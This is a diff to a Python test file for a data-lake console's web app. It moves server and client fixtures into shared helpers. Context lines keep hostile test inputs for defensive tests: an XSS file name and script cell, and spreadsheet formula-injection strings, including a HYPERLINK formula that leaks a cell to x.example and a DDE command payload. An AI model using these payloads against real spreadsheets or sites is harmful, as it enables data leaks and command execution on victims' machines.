@@ -10,14 +10,11 @@ import fcntl
 import io
 import select
 import socket
-import threading
-import time
 from pathlib import Path
 
 import pyarrow as pa
 import pyarrow.parquet as pq
 import pytest
-import uvicorn
 from fastapi.testclient import TestClient
 
 from lib.errors import LakeError
@@ -25,25 +22,15 @@ from lib.ledger.records import ACCEPTED, RECEIVED
 from lib.ledger.sqlite import open_ledger
 from lib.tools.console.app import create_app, exposure_warning, serve, serving_hosts
 from lib.tools.console.security import CSRF_HEADER, content_security_policy
-from tests.helpers import SAMPLES, free_port
+from tests.helpers import CONSOLE_URL, SAMPLES, serving
 
 GOOD = SAMPLES / "orders_2026-11-01.csv"
 H = {CSRF_HEADER: "1"}
-BASE = "http://127.0.0.1:8000"
+BASE = CONSOLE_URL
 HOSTILE_NAME = '"><img src=x onerror=alert(1)>.csv'
 HOSTILE_VALUE = "<script>alert('cell')</script>"
 FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "=cmd|' /C calc'!A0", "+1+1",
             "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
-
-
-@pytest.fixture
-def lake(tmp_path) -> Path:
-    return tmp_path / "lake"
-
-
-@pytest.fixture
-def client(lake) -> TestClient:
-    return TestClient(create_app(lake, max_bytes=10_000), base_url=BASE)
 
 
 def upload(client: TestClient, name: str, data: bytes) -> dict:
@@ -129,18 +116,8 @@ def test_a_change_from_a_foreign_origin_is_refused(client) -> None:
 
 @pytest.fixture
 def server(lake):  # noqa: ANN201 - a real server: the test client buffers a body whole
-    port = free_port()
-    srv = uvicorn.Server(uvicorn.Config(create_app(lake), host="127.0.0.1", port=port,
-                                        log_level="warning"))
-    thread = threading.Thread(target=srv.run, daemon=True)
-    thread.start()
-    deadline = time.monotonic() + 20
-    while not srv.started:
-        assert time.monotonic() < deadline, "the console did not start"
-        time.sleep(0.05)
-    yield port
-    srv.should_exit = True
-    thread.join(10)
+    with serving(create_app(lake)) as port:
+        yield port
 
 
 def test_a_chunked_json_body_is_cut_off_at_the_limit(server, lake) -> None:
